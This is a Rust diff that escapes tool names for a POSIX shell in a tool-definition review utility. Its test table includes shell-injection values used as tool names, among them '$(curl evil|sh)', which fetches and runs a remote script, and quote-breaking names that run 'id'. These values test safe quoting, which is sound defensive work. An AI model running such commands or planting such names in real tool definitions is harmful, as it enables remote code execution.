@@ -3,7 +3,10 @@
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
 
-use crate::tool_server::DiscoveredTool;
+use crate::{
+    hidden_text::{escape_hidden, is_hidden},
+    tool_server::DiscoveredTool,
+};
 
 /// Value of `onChange` by which agents keep the accepted definitions.
 pub const HOLD: &str = "Hold";
@@ -48,7 +51,7 @@ pub struct HeldTool {
     pub reason: String,
     /// SHA-256 (hex) of the definition.
     pub digest: String,
-    /// What hides text in it, such as `has the invisible character U+200B`.
+    /// Cause of hidden text in it, such as `has the invisible character U+200B`.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub hides: Option<String>,
     /// Definition itself.
@@ -67,14 +70,24 @@ pub fn digest_hex(shown: &str) -> Option<&str> {
     (hex.len() == 64 && hex.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'))).then_some(hex)
 }
 
-/// Returns the name of a tool for a sentence and a shell: as it is if it is plain, else quoted, with every character escaped
-/// that does not show.
+/// Returns the name of a tool for a sentence and a POSIX shell: as it is if it is plain, else in single quotes, within which a
+/// shell expands nothing, with every character escaped that does not show.
 pub fn shown_name(name: &str) -> String {
     let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./:".contains(&byte);
     if !name.is_empty() && !name.starts_with('-') && name.bytes().all(is_plain) {
-        name.to_owned()
-    } else {
-        format!("{name:?}")
+        return name.to_owned();
+    }
+    let shown = escape_hidden(name).replace('\n', "\\u{a}").replace('\t', "\\u{9}");
+    format!("'{}'", shown.replace('\'', r"'\''"))
+}
+
+/// Returns the argument by which `recif tools accept` accepts this definition (`hex`: its digest) of a tool, for a POSIX shell. A name
+/// that cannot be typed, or would be read as an option, is left out: the digest is that of one tool alone.
+pub fn accept_argument(name: &str, hex: &str) -> String {
+    let is_unseen = |character: char| character.is_control() || is_hidden(character);
+    match name.starts_with('-') || name.chars().any(is_unseen) {
+        true => shown_digest(hex),
+        false => format!("{}={}", shown_name(name), shown_digest(hex)),
     }
 }
 
@@ -98,17 +111,27 @@ mod tests {
     }
 
     #[test]
-    fn a_name_that_a_shell_or_an_eye_would_misread_is_quoted_and_escaped() {
-        for (name, shown) in [
-            ("get_weather", "get_weather"),
-            ("files/read.v2", "files/read.v2"),
-            ("", "\"\""),
-            ("--all", "\"--all\""),
-            ("a b", "\"a b\""),
-            ("get\u{200b}", "\"get\\u{200b}\""),
-            ("$(id)", "\"$(id)\""),
+    fn a_name_is_one_word_of_a_shell_that_expands_nothing() {
+        let digest = shown_digest("12");
+        for (name, shown, argument) in [
+            ("get_weather", "get_weather", "get_weather=sha256:12"),
+            ("files/read.v2", "files/read.v2", "files/read.v2=sha256:12"),
+            ("", "''", "''=sha256:12"),
+            ("--all", "'--all'", digest.as_str()),
+            ("-nother", "'-nother'", digest.as_str()),
+            ("a b", "'a b'", "'a b'=sha256:12"),
+            ("$(curl evil|sh)", "'$(curl evil|sh)'", "'$(curl evil|sh)'=sha256:12"),
+            ("`id`\"", "'`id`\"'", "'`id`\"'=sha256:12"),
+            ("a'; id; '", r"'a'\''; id; '\'''", r"'a'\''; id; '\'''=sha256:12"),
+            ("日本", "'日本'", "'日本'=sha256:12"),
+            ("get\u{200b}", "'get\\u{200b}'", digest.as_str()),
+            ("a\nb\tc\u{1b}", "'a\\u{a}b\\u{9}c\\u{1b}'", digest.as_str()),
         ] {
-            assert_eq!(shown_name(name), shown, "{name:?}");
+            assert_eq!(
+                (shown_name(name).as_str(), accept_argument(name, "12").as_str()),
+                (shown, argument),
+                "{name:?}"
+            );
         }
     }
 
